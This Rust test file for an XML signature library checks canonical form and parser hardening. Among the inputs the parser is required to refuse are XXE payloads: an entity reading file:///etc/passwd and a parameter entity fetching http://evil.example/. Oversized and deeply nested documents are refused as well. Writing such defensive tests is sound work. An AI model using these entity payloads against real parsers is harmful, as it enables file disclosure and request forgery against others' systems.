//! Reading and writing: canonical form, and documents that cost too much or are not what they seem.

use chancery_xmldsig::canonical::exclusive;
use chancery_xmldsig::tree::{Element, Tree, XmlError, utf8};
use chancery_xmldsig::write::Writer;
use proptest::prelude::*;

/// The canonical form of the element of this name.
fn canonical(document: &str, name: &str, inclusive: &[&str]) -> String {
    let tree = Tree::parse(document).unwrap();
    let found = tree.root().descendants().find(|node| node.tag_name().name() == name).unwrap();
    exclusive(found, None, inclusive)
}

#[test]
fn declarations_come_where_they_are_used_and_once() {
    let document = r#"<n0:pdu xmlns:n0="http://a.example" xmlns:n1="http://b.example" xmlns:n2="http://c.example"><n1:elem2 xmlns:n3="ftp://example.org" b="1"><n3:stuff n1:a="2" xmlns:n1="http://b.example"/></n1:elem2></n0:pdu>"#;
    assert_eq!(
        canonical(document, "elem2", &[]),
        r#"<n1:elem2 xmlns:n1="http://b.example" b="1"><n3:stuff xmlns:n3="ftp://example.org" n1:a="2"></n3:stuff></n1:elem2>"#
    );
    assert_eq!(
        canonical(document, "elem2", &["n2", "n3"]),
        r#"<n1:elem2 xmlns:n1="http://b.example" xmlns:n2="http://c.example" xmlns:n3="ftp://example.org" b="1"><n3:stuff n1:a="2"></n3:stuff></n1:elem2>"#
    );
}

#[test]
fn attributes_are_sorted_by_namespace_and_then_by_name() {
    let document = r#"<e z="1" b:a="2" a="3" xmlns:b="urn:1" xmlns:a="urn:2" a:a="4" xml:lang="en"/>"#;
    assert_eq!(
        canonical(document, "e", &[]),
        r#"<e xmlns:a="urn:2" xmlns:b="urn:1" a="3" z="1" xml:lang="en" b:a="2" a:a="4"></e>"#
    );
}

#[test]
fn the_default_namespace_is_undone_only_where_it_was_done() {
    let document = r#"<a xmlns="urn:a"><b xmlns=""><c xmlns="urn:c"/></b></a>"#;
    assert_eq!(
        canonical(document, "a", &[]),
        r#"<a xmlns="urn:a"><b xmlns=""><c xmlns="urn:c"></c></b></a>"#
    );
    assert_eq!(canonical(document, "b", &[]), r#"<b><c xmlns="urn:c"></c></b>"#);
}

#[test]
fn text_is_escaped_and_comments_are_left_out() {
    let document = "<a t='&#9;&#10;&#13;&quot;&lt;&amp;>'>x<!-- no --><![CDATA[<&]]>&gt;\r\n&#13;</a>";
    assert_eq!(
        canonical(document, "a", &[]),
        "<a t=\"&#x9;&#xA;&#xD;&quot;&lt;&amp;>\">x&lt;&amp;&gt;\n&#xD;</a>"
    );
}

#[test]
fn two_prefixes_of_one_namespace_are_not_mixed_up() {
    let document = r#"<x:a xmlns:x="urn:1" xmlns:y="urn:1"><y:b x:c="1"/></x:a>"#;
    assert_eq!(
        canonical(document, "a", &[]),
        r#"<x:a xmlns:x="urn:1"><y:b xmlns:y="urn:1" x:c="1"></y:b></x:a>"#
    );
}

proptest! {
    #[test]
    fn whatever_is_written_is_in_canonical_form_already(text in ".*", value in ".*", inner in ".*") {
        let mut out = Writer::new();
        out.open("p:a", &[("xmlns:p", "urn:p"), ("v", &value)])
            .text(&text)
            .leaf("p:b", &[("xmlns:q", "urn:q"), ("q:c", &inner)], &inner)
            .close("p:a");
        let written = out.finish();
        prop_assert_eq!(canonical(&written, "a", &[]), written.clone());
    }

    #[test]
    fn no_text_makes_the_reader_panic(text in "[<>&;'\"=!?/\\[\\]a-zA-Z0-9:# \\-\n]{0,200}") {
        if let Ok(tree) = Tree::parse(&text) {
            exclusive(tree.root(), None, &["a", "#default"]);
        }
    }
}

/// So many texts, one after the other.
fn repeated(count: usize, text: impl Fn(usize) -> String) -> String {
    (0..count).map(text).collect::<Vec<_>>().concat()
}

fn refusal(document: &str) -> XmlError {
    Tree::parse(document).map(drop).unwrap_err()
}

#[test]
fn document_types_are_refused_whatever_they_declare() {
    for document in [
        "<!DOCTYPE a><a/>",
        "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/\">%x;]><a/>",
        "<!DOCTYPE a [<!ATTLIST a Foo ID #IMPLIED>]><a Foo=\"_one\"/>",
        "<?xml version=\"1.0\"?>\n<!doctype a><a/>",
        "<a><!ELEMENT a ANY></a>",
    ] {
        assert_eq!(refusal(document), XmlError::DocumentType, "{document}");
    }
    // An entity that nobody declared is none.
    assert!(matches!(refusal("<a>&x;</a>"), XmlError::Malformed(_)));
    assert!(matches!(refusal("<a ID=\"&x;\"/>"), XmlError::Malformed(_)));
}

#[test]
fn processing_instructions_are_refused() {
    for document in
        ["<?xml-stylesheet href=\"x\"?><a/>", "<a><?x y?></a>", "<a/><?x?>", "<a><?xml version=\"1.0\"?></a>"]
    {
        assert_eq!(refusal(document), XmlError::Instruction, "{document}");
    }
}

#[test]
fn a_prefix_is_never_declared_for_no_namespace() {
    for document in [
        "<x:a xmlns:x=''/>",
        "<a xmlns:x=\"\"/>",
        "<a b='1'\n\txmlns:x = ''/>",
        "<a><b xmlns:x=''><x:c/></b></a>",
    ] {
        assert!(matches!(refusal(document), XmlError::Malformed(_)), "{document}");
    }
    // What only looks like one is none, and the default namespace may be undone.
    for document in [
        "<a b=\" xmlns:x=''\"/>",
        "<a b='xmlns:x=' c=''/>",
        "<a> xmlns:x=''</a>",
        "<a xmlns='urn:a'><b xmlns=''/></a>",
    ] {
        assert!(Tree::parse(document).is_ok(), "{document}");
    }
}

#[test]
fn other_encodings_are_refused() {
    for said in ["ISO-8859-1", "UTF-7", "UTF-32", "UTF-16LE", "ASCII", "x-utf-16", "utf-16 utf-8", ""] {
        let document = format!("<?xml version=\"1.0\" encoding=\"{said}\"?><a/>");
        assert_eq!(refusal(&document), XmlError::Encoding, "{said}");
    }
    for said in
        ["encoding='ISO-8859-1' standalone='utf-8'", "encoding='utf-8\"", "encoding", "encoding=utf-8"]
    {
        assert_eq!(refusal(&format!("<?xml version='1.0' {said}?><a/>")), XmlError::Encoding, "{said}");
    }
    let utf16: Vec<u8> =
        [0xfe_u8, 0xff].into_iter().chain("<a/>".encode_utf16().flat_map(u16::to_be_bytes)).collect();
    for bytes in [utf16, b"<a>\xc3\x28</a>".to_vec(), b"<a>\xc0\x80</a>".to_vec()] {
        assert_eq!(utf8(bytes), Err(XmlError::Encoding));
    }
    assert!(matches!(refusal("<a>\0</a>"), XmlError::Malformed(_)));
}

#[test]
fn what_is_utf8_may_call_itself_utf16_or_ascii_and_utf16_stays_refused() {
    for said in ["utf-8", "UTF-8", "utf-16", "UTF-16", "US-ASCII", "us-ascii"] {
        for quote in ["\"", "'"] {
            let declaration =
                format!("<?xml version='1.0' encoding = {quote}{said}{quote} standalone='yes'?>");
            for begin in ["", "\u{feff}"] {
                let document = format!("{begin}{declaration}<a>\u{fc}</a>");
                assert_eq!(Tree::parse(&document).unwrap().root().whole_text().unwrap(), "\u{fc}", "{said}");
            }
        }
    }
    let document = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>b</a>";
    let units = || document.encode_utf16();
    let little: Vec<u8> = units().flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> = units().flat_map(u16::to_be_bytes).collect();
    for bytes in [[&[0xff, 0xfe], little.as_slice()].concat(), [&[0xfe, 0xff], big.as_slice()].concat()] {
        assert_eq!(utf8(bytes), Err(XmlError::Encoding));
    }
    // Without a mark they are a text with NUL between its letters, which is no XML.
    for bytes in [little, big] {
        let text = utf8(bytes).unwrap();
        assert!(Tree::parse(&text).is_err());
    }
}

#[test]
fn documents_that_are_too_large_too_deep_or_too_wide_are_refused() {
    let deep = |levels: usize| ["<a>".repeat(levels), "</a>".repeat(levels)].concat();
    assert!(Tree::parse(&deep(64)).is_ok());
    assert!(matches!(refusal(&deep(65)), XmlError::TooLarge(_)));
    assert!(matches!(refusal(&deep(100_000)), XmlError::TooLarge(_)));
    let wide = |count: usize| format!("<a{}/>", repeated(count, |n| format!(" a{n}=\"\"")));
    assert!(Tree::parse(&wide(128)).is_ok());
    assert!(matches!(refusal(&wide(129)), XmlError::TooLarge(_)));
    // A greater-than sign in a value does not end the tag.
    let hidden = format!("<a{}/>", repeated(129, |n| format!(" a{n}='>'")));
    assert!(matches!(refusal(&hidden), XmlError::TooLarge(_)));
    // Each value is looked at once, however many there are: to look back from each would take minutes.
    for empty in ["\"\"", "''"] {
        let many = format!("<a{}>", empty.repeat(500_000));
        assert!(matches!(refusal(&many), XmlError::TooLarge(_)));
    }
    let namespaces = repeated(4200, |n| format!("<a xmlns:n{n}='urn:{n}'/>"));
    assert!(matches!(refusal(&format!("<a>{namespaces}</a>")), XmlError::TooLarge(_)));
    // Below each other they hold at the same place, beside each other they do not.
    let declared = |count: usize| repeated(count, |n| format!(" xmlns:n{n}='urn:{n}'"));
    let around = |inner: usize| format!("<a{}><b{}/></a>", declared(64), declared(inner));
    assert!(Tree::parse(&around(64)).is_ok());
    assert!(matches!(refusal(&around(65)), XmlError::TooLarge(_)));
    assert!(Tree::parse(&format!("<a>{}</a>", repeated(3, |_| around(64)))).is_ok());
    let large = format!("<a>{}</a>", "x".repeat(1024 * 1024));
    assert!(matches!(refusal(&large), XmlError::TooLarge(_)));
}

#[test]
fn an_element_is_asked_for_by_its_whole_name_and_once() {
    let tree =
        Tree::parse(r#"<a xmlns="urn:a"><b/><b/><c xmlns="urn:other"/><d>te<!-- -->xt</d><e>x<b/></e></a>"#)
            .unwrap();
    let root = tree.root();
    assert!(matches!(root.only("urn:a", "b"), Err(XmlError::Children { found: 2, .. })));
    assert!(matches!(root.only("urn:a", "c"), Err(XmlError::Children { found: 0, .. })));
    assert!(root.only("urn:other", "c").is_ok());
    assert_eq!(root.only("urn:a", "d").unwrap().whole_text().unwrap(), "text");
    assert_eq!(root.only("urn:a", "e").unwrap().whole_text(), Err(XmlError::NotText("e".to_owned())));
}
